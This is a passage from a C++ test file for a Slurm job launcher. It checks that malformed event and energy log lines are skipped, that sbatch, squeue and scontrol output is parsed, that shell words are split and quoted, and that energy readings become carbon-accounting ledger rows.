  FakeSlurmClient::FakeJob job;
  job.name = "cs-trial-11";
  job.state = "RUNNING";
  fixture.slurm.jobs["1"] = job;
  CHECK_FALSE(fixture.launcher->UnrecordedJob(11, work_dir, "1"));
  REQUIRE(fixture.launcher->Adopt(11, "1", work_dir).ok());
  CHECK(fixture.WaitPoll().empty());
  CHECK_FALSE(fixture.warnings.empty());
}

TEST_CASE("events.log and energy.log lines a trial never writes are skipped with a warning, the rest goes on") {
  Fixture fixture;
  REQUIRE(fixture.launcher->Start(fixture.Request(3)).ok());
  fixture.SetJob("1", "RUNNING");
  const std::string padding(100 << 10, 'x');
  fixture.Append(3, "events.log",
                 EventLine(R"({"event":5})") + EventLine(R"({"event":"end","state":7})") +
                     EventLine(R"({"event":"requeue","job_id":"999","previous_job_id":"1"})") +
                     EventLine(R"({"event":"slurm_energy","job_id":"1","joules":1e300})") +
                     EventLine(R"({"event":"energy","unix_seconds":1.0,"interval_seconds":1.0,"component":"cpu","method":"m","joules":1e300})") +
                     EventLine(R"({"event":"epoch","epoch":2,"pad":")" + padding + "\"}") +
                     EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
  const std::string record = R"("interval_seconds":1.0,"component":"cpu","method":"cpu-time-model","watts":1)";
  fixture.Append(3, "energy.log",
                 R"({"unix_seconds":1700000001.0,"joules":1e999,)" + record + "}\n" +
                 R"({"unix_seconds":1700000001.0,"joules":-1,)" + record + "}\n" +
                 R"({"unix_seconds":1e999,"joules":1,)" + record + "}\n" +
                 R"({"unix_seconds":1700000001.0,"joules":1,"pad":")" + padding + "\"," + record + "}\n" +
                 R"({"unix_seconds":1700000001.0,"joules":9.5,)" + record + "}\n");
  std::vector<LauncherEvent> events = fixture.WaitPoll();
  REQUIRE(events.size() == 2);
  CHECK(events[0].event["event"] == "epoch");
  CHECK(events[0].event["epoch"] == 1);
  CHECK(events[1].event["event"] == "energy");
  CHECK(events[1].event["joules"] == 9.5);
  CHECK(fixture.warnings.size() >= 3);
  CHECK(fixture.launcher->Running() == 1);
}

TEST_CASE("Slurm output parsers") {
  CHECK(*ParseSbatchJobId("4242\n") == "4242");
  CHECK(*ParseSbatchJobId("sbatch: warning: something\n4243;cluster\n") == "4243");
  CHECK_FALSE(ParseSbatchJobId("sbatch: error: Batch job submission failed").ok());

  auto queue = ParseSqueueLines("12|RUNNING|None\n13|PENDING|Resources\ngarbage\n");
  REQUIRE(queue.size() == 2);
  CHECK(queue["13"].state == SlurmJobState::kPending);
  CHECK(queue["13"].reason == "Resources");

  auto commands = ParseSqueueCommands("  12|/work/s.d/trial-1/slurm-job.sh\n13|/a b/slurm-job.sh\nnot a job|x\n");
  REQUIRE(commands.size() == 2);
  CHECK(commands["12"] == "/work/s.d/trial-1/slurm-job.sh");
  CHECK(commands["13"] == "/a b/slurm-job.sh");

  auto jobs = ParseScontrolJobs(
      "JobId=5 JobName=wrap JobState=CANCELLED Reason=None Restarts=1 ExitCode=0:15 TimeLimit=00:01:00 NodeList=vm\n");
  REQUIRE(jobs.count("5"));
  CHECK(jobs["5"].state == SlurmJobState::kCancelled);
  CHECK(*jobs["5"].exit_signal == 15);
  CHECK(jobs["5"].restarts == 1);
  CHECK(jobs["5"].time_limit == "00:01:00");
  CHECK(ParseSlurmJobState("CANCELLED by 0") == SlurmJobState::kCancelled);
  CHECK(ParseSlurmJobState("SOMETHING_NEW") == SlurmJobState::kUnknown);
  CHECK_FALSE(IsTerminal(SlurmJobState::kUnknown));
  CHECK(IsTerminal(SlurmJobState::kOutOfMemory));

  auto words = SplitShellWords(R"(--qos=high  --comment='a b' --x="c \"d\"" e\ f)");
  REQUIRE(words.ok());
  CHECK(*words == std::vector<std::string>{"--qos=high", "--comment=a b", "--x=c \"d\"", "e f"});
  CHECK(ShellQuote("it's") == R"('it'\''s')");
}

namespace {
class FixedIntensity : public IntensityProvider {
 public:
  double GramsPerKwhAt(double) const override { return 360; }
  nlohmann::json Describe() const override { return {{"kind", "constant"}}; }
};
}  // namespace

TEST_CASE("an energy event becomes a store row with the orchestrator's PUE and intensity") {
  auto event = EnergyEventFromLine(
      R"({"unix_seconds":100.0,"interval_seconds":2.0,"component":"gpu","method":"nvml-energy","joules":500,"watts":250})");
  REQUIRE(event.has_value());
  auto reading = MeterReadingFromEnergyEvent(*event, /*trial_id=*/2);
  REQUIRE(reading.ok());
  CHECK(reading->meter_joules == 500);  // the worker's figure: no PUE, no grams.
  FixedIntensity intensity;
  const EnergyLedger ledger(/*store=*/nullptr, /*sweep_id=*/1, EnergyPricing(/*pue=*/1.2, &intensity));
  auto row = std::make_optional(ledger.RowFor(*reading));
  CHECK(row->trial_id == 2);
  CHECK(row->joules == doctest::Approx(600));
  CHECK(row->watts == doctest::Approx(300));
  CHECK(row->grams_co2e == doctest::Approx(600 * 360 / 3.6e6));
  CHECK(row->component == "gpu");
  CHECK(row->method == "nvml-energy");
  CHECK_FALSE(EnergyEventFromLine(R"({"unix_seconds":100.0,"interval_s)").has_value());
  nlohmann::json broken = *event;
  broken["joules"] = -1;
  CHECK_FALSE(MeterReadingFromEnergyEvent(broken, 2).ok());
}

TEST_CASE("SelfMeterLog appends this process's metered energy to energy.log") {
  testing::TempDir dir;
  MeterOptions options;
  options.powercap_root = dir.File("no-powercap");
  options.drm_root = dir.File("no-drm");
  options.nvml_library = "";
  auto meter = SelfMeterLog::Start(dir.path(), options, /*interval_seconds=*/0.05);
  REQUIRE(meter.ok());
  volatile double sink = 0;
  for (int i = 0; i < 30000000; ++i) sink = sink + i * 0.5;  // CPU time for the CPU-time model to see.
  REQUIRE((*meter)->Stop().ok());
  auto text = ReadFile(dir.File("energy.log"));
  REQUIRE(text.ok());
  double cpu_joules = 0;
  std::istringstream lines(*text);
  std::string line;
  while (std::getline(lines, line)) {
    auto event = EnergyEventFromLine(line);
    REQUIRE(event.has_value());
    if ((*event)["component"] == "cpu") cpu_joules += (*event)["joules"].get<double>();
  }
  CHECK(cpu_joules > 0);
}

}  // namespace cs
